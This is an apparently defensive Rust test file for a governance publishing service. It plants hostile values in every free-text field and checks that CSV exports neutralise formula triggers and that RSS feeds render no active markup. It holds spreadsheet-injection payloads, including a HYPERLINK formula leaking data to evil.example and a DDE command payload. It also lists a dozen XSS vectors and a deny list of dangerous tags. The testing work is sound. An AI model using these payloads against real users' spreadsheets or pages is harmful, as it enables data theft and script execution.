//! Hostile values in every free-text field, written through the JSON API, then the
//! published data read as its users' tools read it: no CSV cell a spreadsheet would run
//! as a formula, no feed title or channel field that a reader would render as markup.

use crate::both_backends;
use crate::helpers::{Backend, TestApp};
use serde_json::{json, Value};

/// Spreadsheet formulas (OWASP's examples and the issue's), some with leading white
/// space that the API trims away.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r-4+4",
];

/// Markup that a reader rendering a field as HTML would run, or that turns into such
/// markup once something is taken out of it or it is decoded once.
pub(crate) const MARKUP: [&str; 12] = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<<b>img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=javascript:alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<!--<img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
];

/// The i-th hostile value: `values` in turn, each made distinct by a number at its end.
struct Values<'a> {
    values: &'a [&'a str],
    next: std::cell::Cell<usize>,
}

impl Values<'_> {
    fn next(&self) -> String {
        let i = self.next.get();
        self.next.set(i + 1);
        format!("{} {i}", self.values[i % self.values.len()])
    }
}

fn created(app: &TestApp, path: &str, body: Value) -> Value {
    let (s, answer) = app.post(path, body.clone());
    assert_eq!(s, 201, "POST {path} {body}: {answer}");
    answer
}

/// Every free-text field of people, declarations, gifts, committees, meetings, items,
/// decisions, breaches and GP earnings holds a hostile value (the withdrawn decision's and
/// figure's reasons too).
pub(crate) fn plant(app: &TestApp, values: &[&str]) {
    let v = Values {
        values,
        next: std::cell::Cell::new(0),
    };
    let person = |decision_making: bool| {
        created(
            app,
            "/people",
            json!({"name": v.next(), "position": v.next(), "decision_making": decision_making}),
        )["slug"]
            .as_str()
            .expect("a slug")
            .to_owned()
    };
    let (lay, exec, gp) = (person(true), person(true), person(true));
    let declared = created(
        app,
        "/declarations",
        json!({"person": gp, "interest_type": "indirect", "position": v.next(), "associate": v.next(),
               "description": v.next(), "body": v.next(), "arose_on": "2026-01-05", "declared_on": "2026-01-20",
               "mitigation": v.next()}),
    );
    let declaration: i64 = declared["id"]
        .as_str()
        .and_then(|id| id.parse().ok())
        .expect("an id");
    created(
        app,
        "/gifts",
        json!({"person": gp, "giver": v.next(), "giver_is_supplier": true, "kind": "hospitality",
               "description": v.next(), "value_pence": 7501, "offered_on": "2026-05-01",
               "outcome": "accepted", "approved_by": v.next()}),
    );
    let member = |person: &str, category: &str, role: &str| json!({"person": person, "category": category, "role": role, "from": "2026-01-01"});
    created(
        app,
        "/committees",
        json!({"name": v.next(), "slug": "hostile", "terms_of_reference": v.next(),
               "quorum_minimum": 1, "quorum_required": ["lay"],
               "members": [member(&lay, "lay", "chair"), member(&exec, "executive", "member"),
                           member(&gp, "clinical", "member")]}),
    );
    let mut attendance = serde_json::Map::new();
    for who in [&lay, &exec, &gp] {
        attendance.insert(who.clone(), json!("present"));
    }
    let meeting = created(
        app,
        "/committees/hostile/meetings",
        json!({"held_on": "2026-03-04", "attendance": attendance}),
    )["id"]
        .as_i64()
        .expect("a meeting id");
    // Item numbers are letters, digits and dots only: nothing hostile fits.
    let item = |number: &str, outcome: Value| {
        let id = created(
            app,
            &format!("/meetings/{meeting}/items"),
            json!({"number": number, "title": v.next(), "description": v.next(), "conflicts": [
                {"person": gp, "declaration": declaration, "nature": v.next(), "decision": "left_room"}]}),
        )["id"]
            .as_i64()
            .expect("an item id");
        let mut outcome = outcome;
        outcome["version"] = json!(1);
        created(app, &format!("/items/{id}/outcome"), outcome);
        id
    };
    let decided = item("5", json!({"outcome": "decided", "decision": v.next()}));
    item("6", json!({"outcome": "deferred", "reason": v.next()}));
    item(
        "7",
        json!({"outcome": "referred", "referred_to": v.next(), "reason": v.next()}),
    );
    created(
        app,
        "/decisions",
        json!({"reference": "PCD-1", "title": v.next(), "service_description": v.next(), "service_status": "new",
               "route": "extension", "item": decided, "clinical_lead": v.next(), "contract_manager": v.next(),
               "justification": v.next(), "supplier": v.next(), "value_pence": 1_800_050, "term_months": 12,
               "starts_on": "2026-04-01", "comments": v.next()}),
    );
    created(
        app,
        "/decisions",
        json!({"reference": "PCD-2", "title": v.next(), "service_description": v.next(), "service_status": "existing",
               "route": "single_tender_waiver", "decided_on": "2026-02-10", "how_decided": v.next(),
               "conflicts_note": v.next(), "justification": v.next(), "value_pence": 500_000}),
    );
    created(
        app,
        "/decisions/PCD-2/withdraw",
        json!({"version": 1, "reason": v.next()}),
    );
    created(
        app,
        "/breaches",
        json!({"occurred_on": "2026-01-05", "summary": v.next(), "action_taken": v.next(), "reported_to": v.next()}),
    );
    let figure = |ods: &str| {
        json!({"practice_name": v.next(), "ods_code": ods, "financial_year": "2025/26",
               "mean_earnings_pence": 10_400_000, "full_time_gps": 2, "part_time_gps": 1})
    };
    created(app, "/gp-earnings", figure("B82005"));
    let withdrawn = created(app, "/gp-earnings", figure("B82006"));
    created(
        app,
        &format!("/gp-earnings/{}/withdraw", withdrawn["id"]),
        json!({"version": 1, "reason": v.next()}),
    );
}

/// The published files of the test organisation under `dir` with extension `ext`.
fn published(app: &TestApp, dir: &str, ext: &str) -> Vec<(String, String)> {
    let files: Vec<(String, String)> = app
        .site_files()
        .into_iter()
        .filter(|(rel, _)| rel.starts_with(&format!("test-ccg/{dir}/")) && rel.ends_with(ext))
        .collect();
    assert!(!files.is_empty(), "no {ext} files under test-ccg/{dir}/");
    files
}

/// Columns of whole numbers in the open data (written here, not taken from the code).
const NUMBERS: [&str; 9] = [
    "id",
    "version",
    "days_late",
    "value_pence",
    "term_months",
    "audit_seq",
    "mean_earnings_pence",
    "full_time_gps",
    "part_time_gps",
];

fn formulas_reach_no_csv_as_formulas(b: Backend) {
    let app = TestApp::spawn(b);
    plant(&app, &FORMULAS);
    let triggers = ['=', '+', '-', '@', '\t', '\r'];
    let mut neutralised = 0;
    let mut seen = Vec::new();
    // The bulk data files follow the pages off the writer's path.
    app.wait_for_data_files();
    for (rel, text) in published(&app, "data", ".csv") {
        seen.push(rel.clone());
        let body = text.strip_prefix('\u{feff}').expect("a byte order mark");
        let mut reader = csv::Reader::from_reader(body.as_bytes());
        let header: Vec<String> = reader
            .headers()
            .expect("a header row")
            .iter()
            .map(str::to_owned)
            .collect();
        let mut in_file = 0;
        for row in reader.records() {
            let row = row.unwrap_or_else(|e| panic!("{rel}: {e}"));
            for (column, cell) in header.iter().zip(row.iter()) {
                if NUMBERS.contains(&column.as_str()) {
                    assert!(
                        cell.is_empty() || cell.parse::<i64>().is_ok(),
                        "{rel} {column}: {cell:?} is not a number"
                    );
                } else {
                    assert!(
                        !cell.starts_with(triggers),
                        "{rel} {column}: {cell:?} starts with a formula trigger"
                    );
                    if cell.starts_with('\'') && cell[1..].starts_with(triggers) {
                        in_file += 1;
                    }
                }
            }
        }
        assert!(in_file > 0, "{rel}: nothing planted was found");
        neutralised += in_file;
    }
    seen.sort();
    assert_eq!(
        seen,
        [
            "test-ccg/data/breaches.csv",
            "test-ccg/data/decisions.csv",
            "test-ccg/data/gifts.csv",
            "test-ccg/data/gp-earnings.csv",
            "test-ccg/data/interests.csv",
        ]
    );
    assert!(neutralised >= 25, "only {neutralised} cells neutralised");
    // The numbers are the numbers given; the JSON keeps the text exactly as recorded.
    let (_, gifts) = app.get_text(&format!("{}/test-ccg/data/gifts.csv", app.base));
    assert!(gifts.contains(",7501,"), "{gifts}");
    let (_, json) = app.get(&format!("{}/test-ccg/data/gifts.json", app.base), None);
    let giver = json["records"][0]["giver"].as_str().expect("a giver");
    assert!(giver.starts_with(triggers), "{giver}");
    assert!(
        gifts.contains(&format!(",'{giver},")),
        "the CSV has the giver with a quote in front: {gifts}"
    );
}

/// What in `text` would open a tag if a reader rendered it as HTML.
fn opens_tag(text: &str) -> bool {
    text.as_bytes()
        .windows(2)
        .any(|w| w[0] == b'<' && (w[1].is_ascii_alphabetic() || matches!(w[1], b'/' | b'!' | b'?')))
}

/// The first tag of `html` that is active: a script-bearing element, an event handler
/// attribute, or a script URL. In an HTML description text is escaped, so every `<` left
/// opens a real tag.
fn active_tag(html: &str) -> Option<String> {
    let lower = html.to_ascii_lowercase();
    for tag in lower.split('<').skip(1) {
        let tag = tag.split('>').next().unwrap_or("");
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        let handler = tag.match_indices("on").any(|(at, _)| {
            let before = tag[..at].chars().last();
            let rest = &tag[at + 2..];
            let letters = rest.chars().take_while(char::is_ascii_alphabetic).count();
            matches!(before, Some(c) if c.is_whitespace() || c == '/' || c == '"' || c == '\'')
                && letters > 0
                && rest[letters..].trim_start().starts_with('=')
        });
        let dangerous = [
            "script", "style", "iframe", "object", "embed", "svg", "math", "img", "form", "base",
            "link", "meta",
        ];
        if dangerous.contains(&name.as_str())
            || handler
            || tag.contains("javascript:")
            || tag.contains("data:")
        {
            return Some(format!("<{tag}>"));
        }
    }
    None
}

fn markup_reaches_no_feed_title_or_channel_field(b: Backend) {
    let app = TestApp::spawn(b);
    plant(&app, &MARKUP);
    let feeds = published(&app, "feeds", ".xml");
    assert!(
        feeds
            .iter()
            .any(|(rel, _)| rel == "test-ccg/feeds/committees/hostile.xml"),
        "the committee's feed is published"
    );
    let mut items = 0;
    for (rel, xml) in feeds {
        let channel = rss::Channel::read_from(xml.as_bytes())
            .unwrap_or_else(|e| panic!("{rel} does not parse: {e}"));
        let mut plain = vec![
            ("channel title", channel.title().to_owned()),
            ("channel description", channel.description().to_owned()),
            ("channel link", channel.link().to_owned()),
        ];
        for item in channel.items() {
            items += 1;
            plain.push(("item title", item.title().unwrap_or("").to_owned()));
            plain.push(("item link", item.link().unwrap_or("").to_owned()));
            if let Some(g) = item.guid() {
                plain.push(("item guid", g.value().to_owned()));
            }
            for values in item.extensions().values().flat_map(|m| m.values()) {
                for e in values {
                    plain.push(("item element", e.value().unwrap_or("").to_owned()));
                }
            }
            let description = item.description().unwrap_or("");
            assert!(
                active_tag(description).is_none(),
                "{rel}: an item description has {:?}: {description}",
                active_tag(description)
            );
        }
        for (what, text) in plain {
            assert!(!opens_tag(&text), "{rel}: the {what} has markup: {text}");
        }
    }
    assert!(items >= 20, "only {items} feed items");
    // The hostile names did reach the feeds, as text.
    let (_, all) = app.get_text(&format!("{}/test-ccg/feeds/all.xml", app.base));
    let channel = rss::Channel::read_from(all.as_bytes()).expect("all.xml parses");
    assert!(
        channel
            .items()
            .iter()
            .filter_map(|i| i.title())
            .any(|t| t.contains("onerror=alert(1)")),
        "{all}"
    );
}

#[test]
fn the_description_check_finds_what_it_should() {
    assert!(active_tag("<p>x</p><ul><li>a &lt;img onerror=x&gt;</li></ul>").is_none());
    assert!(active_tag("<a href=\"https://x.example\" rel=\"nofollow\">x</a>").is_none());
    assert!(active_tag("<p><img src=x></p>").is_some());
    assert!(active_tag("<p onclick=\"x()\">x</p>").is_some());
    assert!(active_tag("<a href=\"javascript:alert(1)\">x</a>").is_some());
    assert!(opens_tag("a <b") && opens_tag("</x") && !opens_tag("a < b, <3, &lt;img"));
}

both_backends!(
    formulas_reach_no_csv_as_formulas,
    markup_reaches_no_feed_title_or_channel_field,
);
